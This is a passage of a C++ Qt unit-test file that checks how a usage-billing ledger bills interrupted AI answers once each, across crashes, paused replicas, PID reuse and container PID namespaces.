            QCOMPARE(r.rows.at(1).cost, 0.25);
            QCOMPARE(r.rows.at(1).input, 4000);
            QCOMPARE(r.rows.at(1).route, QStringLiteral("coding"));
            QCOMPARE(r.rows.at(1).atEpochMs, at); // in the period the answer ran in
            QCOMPARE(r.rows.at(2).requestId, QStringLiteral("req_late"));
            QCOMPARE(r.rows.at(2).outcome, QStringLiteral("interrupted"));
        }
        QCOMPARE(openRows(path), 0);
        m_log.clear();
        UsageLedger again({path, 400, 0, {}}, clock, logger());
        QVERIFY(m_log.isEmpty()); // billed once
        QCOMPARE(ask(again, {}).rows.size(), 3);
    }

    // An answer that ends bills its own row and nothing more, whether it ended before its open row
    // was written (the usual case: no extra write) or after.
    void anAnswerThatEndsLeavesNoOpenRow() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        const qint64 at = clock.epochMs();
        {
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            ledger.openAnswer(openRow(QStringLiteral("req_short"), 0.25, at));
            ledger.append(row(QStringLiteral("req_short"), QStringLiteral("team-a"), QStringLiteral("pa/claude-a"), 9,
                              9, 0.5, at));
            ledger.openAnswer(openRow(QStringLiteral("req_long"), 0.25, at));
            clock.advance(UsageLedger::kFlushMs);
            QTRY_COMPARE_WITH_TIMEOUT(readFile(path).rows.size(), 1, 5000);
            QCOMPARE(openRows(path), 1); // the long one's only
            ledger.append(row(QStringLiteral("req_long"), QStringLiteral("team-a"), QStringLiteral("pa/claude-a"), 9, 9,
                              0.5, at));
            clock.advance(UsageLedger::kFlushMs);
            QTRY_COMPARE_WITH_TIMEOUT(readFile(path).rows.size(), 2, 5000);
            QCOMPARE(openRows(path), 0); // deleted with its final row, in one transaction
            // An answer that ended with nothing to bill.
            ledger.openAnswer(openRow(QStringLiteral("req_empty"), 0.25, at));
            clock.advance(UsageLedger::kFlushMs);
            QTRY_COMPARE_WITH_TIMEOUT(openRows(path), 1, 5000);
            ledger.closeAnswer(QStringLiteral("req_empty"));
            clock.advance(UsageLedger::kFlushMs);
            QTRY_COMPARE_WITH_TIMEOUT(openRows(path), 0, 5000);
        }
        UsageLedger ledger({path, 400, 0, {}}, clock, logger());
        QVERIFY2(m_log.isEmpty(), m_log.isEmpty() ? "" : qPrintable(m_log.first().message));
        const UsageReport r = ask(ledger, {});
        QCOMPARE(r.rows.size(), 2);
        for (const UsageRow &u : r.rows)
            QCOMPARE(u.outcome, QStringLiteral("ok"));
        QCOMPARE(ledger.spentSince(QStringLiteral("team-a"), 0), 1.0);
    }

    // Replicas share the file: an open row is billed at start only when its writer is gone. On this
    // host, a writer is gone when its pid runs no more, or when the pid is this process's and the
    // writer id another (a restart that got the same pid: a container's pid 1). Another host's
    // rows are left to it, unless a day old.
    void onlyAGoneWritersOpenAnswersAreBilled() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        const qint64 at = clock.epochMs();
        const QString host = QSysInfo::machineHostName();
        const qint64 running = qint64(::getppid()); // this test's parent: alive, and not this process
        const qint64 noSuchPid = 0x3fffffff;        // past any pid_max
        QVERIFY(UsageDatabase::processRunning(running));
        QVERIFY(!UsageDatabase::processRunning(noSuchPid));
#ifdef Q_OS_LINUX
        // A crashed instance its supervisor has not reaped yet (a zombie) runs no more: its open
        // rows were left until some later start (probe H1 2).
        const pid_t zombie = ::fork();
        if (zombie == 0)
            ::_exit(0);
        QVERIFY(zombie > 0);
        QTRY_VERIFY_WITH_TIMEOUT(!UsageDatabase::processRunning(zombie), 5000);
        QVERIFY(::kill(zombie, 0) == 0); // still a zombie: not reaped until here
        ::waitpid(zombie, nullptr, 0);
#endif
        {
            UsageDatabase db;
            QString error;
            QVERIFY2(db.open(path, UsageDatabase::Mode::ReadWrite, &error), qPrintable(error));
            const auto open = [&](const QString &id, const UsageDatabase::Writer &w, qint64 when) {
                QVERIFY2(db.write({}, {openRow(id, 0.25, when)}, {}, w, &error), qPrintable(error));
            };
            open(QStringLiteral("live-replica"), {QStringLiteral("w1"), host, running}, at);
            open(QStringLiteral("dead-process"), {QStringLiteral("w2"), host, noSuchPid}, at);
            open(QStringLiteral("pid-reused"), {QStringLiteral("w3"), host, QCoreApplication::applicationPid()}, at);
            open(QStringLiteral("other-host"), {QStringLiteral("w4"), QStringLiteral("elsewhere"), 1}, at - 3600'000);
            open(QStringLiteral("other-host-old"), {QStringLiteral("w5"), QStringLiteral("elsewhere"), 1},
                 at - UsageDatabase::kOpenRowMaxAgeMs - 1);
            QCOMPARE(db.openRowCount(), 5);
        }
        UsageLedger ledger({path, 400, 0, {}}, clock, logger());
        QCOMPARE(m_log.size(), 1);
        QCOMPARE(m_log.first().message,
                 QStringLiteral("usage: 3 answers cut by a crash (or a pause past the heartbeat) billed by estimate"));
        QStringList billed;
        for (const UsageRow &u : ask(ledger, {}).rows) {
            QCOMPARE(u.outcome, QStringLiteral("interrupted"));
            billed << u.requestId;
        }
        billed.sort();
        QCOMPARE(billed, QStringList({QStringLiteral("dead-process"), QStringLiteral("other-host-old"),
                                      QStringLiteral("pid-reused")}));
        QCOMPARE(openRows(path), 2); // the live replica's and the other host's recent one
    }

    // Replicas in containers on the host network share a host name and are each pid 1 in their own
    // PID namespace. A replica starting (every rolling restart) took another's LIVE open rows for a
    // crashed process's (this host, this pid, another ledger id) and billed them "interrupted"; the
    // live one then wrote its "ok" row: every answer in flight billed twice (probe J4 3). The host
    // now names the namespace too, and a writer's heartbeat says it is alive.
    void aLiveReplicaInAnotherPidNamespaceIsNeverBilled() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        const qint64 at = clock.epochMs();
        const QString name = QSysInfo::machineHostName();
        UsageLedger::Options a{path, 400, 0, {}};
        a.host = name + QStringLiteral(" pid:[4026532001]");
        UsageLedger replicaA(a, clock, logger());
        replicaA.openAnswer(openRow(QStringLiteral("req_live"), 0.25, at));
        clock.advance(UsageLedger::kFlushMs);
        replicaA.flushAndWait();
        QCOMPARE(openRows(path), 1);

        // The other container starts: the same host name, the same pid (this process's), another namespace.
        UsageLedger::Options b = a;
        b.host = name + QStringLiteral(" pid:[4026532002]");
        UsageLedger replicaB(b, clock, logger());
        QVERIFY2(m_log.isEmpty(), m_log.isEmpty() ? "" : qPrintable(m_log.first().message));
        QCOMPARE(openRows(path), 1);
        // A long answer: minutes of B's checks, while A's heartbeat goes on.
        for (int i = 0; i < 30; ++i) {
            clock.advance(UsageDatabase::kHeartbeatMs);
            replicaA.flushAndWait();
            replicaB.flushAndWait();
        }
        QVERIFY2(m_log.isEmpty(), m_log.isEmpty() ? "" : qPrintable(m_log.first().message));
        QCOMPARE(openRows(path), 1);
        replicaA.append(
            row(QStringLiteral("req_live"), QStringLiteral("team-a"), QStringLiteral("pa/claude-a"), 9, 9, 1.0, at));
        replicaA.flushAndWait();
        const UsageReport r = readFile(path);
        QCOMPARE(r.rows.size(), 1); // billed once, by the replica that served it
        QCOMPARE(r.rows.first().outcome, QStringLiteral("ok"));
        QCOMPARE(openRows(path), 0);
    }

    // A replica in another namespace paused past the heartbeat window while it streams (docker
    // pause, a suspended host) is taken for gone, and another replica bills its answer as
    // interrupted. When it resumes and finishes the answer, its final row replaces that estimate:
    // the request was billed twice (probe AC4 F2).
    void aPausedReplicasAnswerIsBilledOnceWhenItResumes() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clockA; // A's clock stands still while it is paused; B's goes on
        test::FakeClock clockB;
        const qint64 at = clockA.epochMs();
        const QString name = QSysInfo::machineHostName();
        UsageLedger::Options a{path, 400, 0, {}};
        a.host = name + QStringLiteral(" pid:[4026532011]");
        UsageLedger replicaA(a, clockA, logger());
        replicaA.openAnswer(openRow(QStringLiteral("req_paused"), 0.15, at));
        replicaA.flushAndWait();
        QCOMPARE(openRows(path), 1);

        clockB.advance(UsageDatabase::kWriterStaleMs + 1500);
        UsageLedger::Options b = a;
        b.host = name + QStringLiteral(" pid:[4026532012]");
        UsageLedger replicaB(b, clockB, logger());
        QCOMPARE(openRows(path), 0); // billed by estimate: A looks gone
        QCOMPARE(readFile(path).rows.size(), 1);
        const QList<SpendWindow> day{{QStringLiteral("team-a"), at - 3600'000, at + 3600'000}};
        QCOMPARE(readSpendOf(replicaB, day), std::optional<QList<double>>(QList<double>{0.15}));

        clockA.advance(UsageDatabase::kWriterStaleMs + 2500); // A resumes and finishes the answer
        replicaA.append(row(QStringLiteral("req_paused"), QStringLiteral("team-a"), QStringLiteral("pa/claude-a"),
                            50000, 400, 0.156, at));
        replicaA.flushAndWait();
        const UsageReport r = readFile(path);
        QCOMPARE(r.rows.size(), 1); // one row per request: the real figure
        QCOMPARE(r.rows.first().outcome, QStringLiteral("ok"));
        QCOMPARE(r.rows.first().output, 400);
        QCOMPARE(readSpendOf(replicaB, day), std::optional<QList<double>>(QList<double>{0.156}));
        QTRY_VERIFY_WITH_TIMEOUT(
            std::any_of(m_log.cbegin(), m_log.cend(),
                        [](const LogLine &l) { return l.message.contains(QStringLiteral("finished after all")); }),
            5000);
    }

    // A replica in another namespace that crashed: its heartbeat stops, and its open rows are billed
    // once, at a later check when the new replica (a container restarted at once) started while
    // that heartbeat was still fresh, by one of the replicas sharing the file; and every replica's
    // budget counts them, the one that billed them too.
    void aGoneReplicasRowsAreBilledOnceAfterItsHeartbeatStops() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        const qint64 at = clock.epochMs();
        const QString name = QSysInfo::machineHostName();
        {
            UsageDatabase db;
            QString error;
            QVERIFY2(db.open(path, UsageDatabase::Mode::ReadWrite, &error), qPrintable(error));
            const UsageDatabase::Writer crashed{QStringLiteral("w-crashed"), name + QStringLiteral(" pid:[4026532003]"),
                                                QCoreApplication::applicationPid(), name, at};
            QVERIFY2(
                db.write({},
                         {openRow(QStringLiteral("req_cut1"), 0.25, at), openRow(QStringLiteral("req_cut2"), 0.5, at)},
                         {}, crashed, &error),
                qPrintable(error));
        }
        clock.advance(5000); // the crashed container restarted at once, in a new namespace
        UsageLedger::Options b{path, 400, 0, {}};
        b.host = name + QStringLiteral(" pid:[4026532004]");
        UsageLedger restarted(b, clock, logger());
        UsageLedger::Options c = b;
        c.host = name + QStringLiteral(" pid:[4026532005]");
        UsageLedger other(c, clock, logger());
        QVERIFY2(m_log.isEmpty(), m_log.isEmpty() ? "" : qPrintable(m_log.first().message)); // it may be alive
        QCOMPARE(openRows(path), 2);
        const QList<SpendWindow> day{{QStringLiteral("team-a"), at - 3600'000, at + 3600'000}};
        QCOMPARE(readSpendOf(restarted, day), std::optional<QList<double>>(QList<double>{0.0}));
        QCOMPARE(readSpendOf(other, day), std::optional<QList<double>>(QList<double>{0.0}));

        for (int i = 0; i < 18; ++i) { // three minutes
            clock.advance(UsageDatabase::kHeartbeatMs);
            restarted.flushAndWait();
            other.flushAndWait();
        }
        QCOMPARE(openRows(path), 0);
        QCOMPARE(m_log.size(), 1); // one of the two billed them, once
        QCOMPARE(m_log.first().message,
                 QStringLiteral("usage: 2 answers cut by a crash (or a pause past the heartbeat) billed by estimate"));
        const UsageReport r = readFile(path);
        QCOMPARE(requestIds(r), QStringList({QStringLiteral("req_cut1"), QStringLiteral("req_cut2")}));
        for (const UsageRow &u : r.rows) {
            QCOMPARE(u.outcome, QStringLiteral("interrupted"));
            QCOMPARE(u.atEpochMs, at);
        }
        QCOMPARE(readSpendOf(restarted, day), std::optional<QList<double>>(QList<double>{0.75}));
        QCOMPARE(readSpendOf(other, day), std::optional<QList<double>>(QList<double>{0.75}));
    }

    // A replica stopped (not crashed) with answers still open: they are cut, and another namespace's
    // replica bills them at its start, not a heartbeat window later.
    void aStoppedReplicasOpenRowsAreBilledAtOnceElsewhere() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        const QString name = QSysInfo::machineHostName();
        UsageLedger::Options a{path, 400, 0, {}};
        a.host = name + QStringLiteral(" pid:[4026532006]");
        {
            UsageLedger stopping(a, clock, logger());
            stopping.openAnswer(openRow(QStringLiteral("req_cut"), 0.25, clock.epochMs()));
        } // the shutdown writes the answer as open: it did not end
        QCOMPARE(openRows(path), 1);
        UsageLedger::Options b = a;
        b.host = name + QStringLiteral(" pid:[4026532007]");
        UsageLedger next(b, clock, logger());
        QCOMPARE(m_log.size(), 1);
        QCOMPARE(m_log.first().message,
                 QStringLiteral("usage: 1 answers cut by a crash (or a pause past the heartbeat) billed by estimate"));
        QCOMPARE(openRows(path), 0);
    }

    // In this host and namespace the pid says at once who is gone, heartbeat or not: a restart that
    // got the same pid, or a pid no longer running. A running pid with a fresh heartbeat is alive;
    // one whose heartbeat stopped is a pid reused by another program. Rows of an older Switchman (no
    // heartbeat, the host name alone) keep their rule.
    void inOneNamespaceThePidRuleStaysImmediate() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        const qint64 at = clock.epochMs();
        const QString name = QSysInfo::machineHostName();
        const QString here = UsageDatabase::hostIdentity(name, QStringLiteral("test"));
#ifdef Q_OS_LINUX
        QVERIFY2(here.startsWith(name + QStringLiteral(" pid:[")) && !here.contains(QStringLiteral("unknown")),
                 qPrintable(here));
#endif
        const qint64 me = QCoreApplication::applicationPid();
        const qint64 running = qint64(::getppid());
        const qint64 noSuchPid = 0x3fffffff;
        {
            UsageDatabase db;
            QString error;
            QVERIFY2(db.open(path, UsageDatabase::Mode::ReadWrite, &error), qPrintable(error));
            const auto open = [&](const QString &id, const UsageDatabase::Writer &w) {
                QVERIFY2(db.write({}, {openRow(id, 0.25, at)}, {}, w, &error), qPrintable(error));
            };
            open(QStringLiteral("restart-same-pid"), {QStringLiteral("w1"), here, me, name, at});
            open(QStringLiteral("dead-pid"), {QStringLiteral("w2"), here, noSuchPid, name, at});
            open(QStringLiteral("live-pid"), {QStringLiteral("w3"), here, running, name, at});
            open(QStringLiteral("reused-pid"),
                 {QStringLiteral("w4"), here, running, name, at - UsageDatabase::kWriterStaleMs - 1});
            open(QStringLiteral("old-version-same-pid"), {QStringLiteral("w5"), name, me}); // no heartbeat
            open(QStringLiteral("old-version-live"), {QStringLiteral("w6"), name, running});
        }
        UsageLedger ledger({path, 400, 0, {}}, clock, logger());
        QCOMPARE(m_log.size(), 1);
        QCOMPARE(m_log.first().message,
                 QStringLiteral("usage: 4 answers cut by a crash (or a pause past the heartbeat) billed by estimate"));
        QCOMPARE(requestIds(readFile(path)),
                 QStringList({QStringLiteral("dead-pid"), QStringLiteral("old-version-same-pid"),
                              QStringLiteral("restart-same-pid"), QStringLiteral("reused-pid")}));
        QCOMPARE(openRows(path), 2);
    }
};

QTEST_GUILESS_MAIN(TestUsageLedger)
#include "test_usage_ledger.moc"
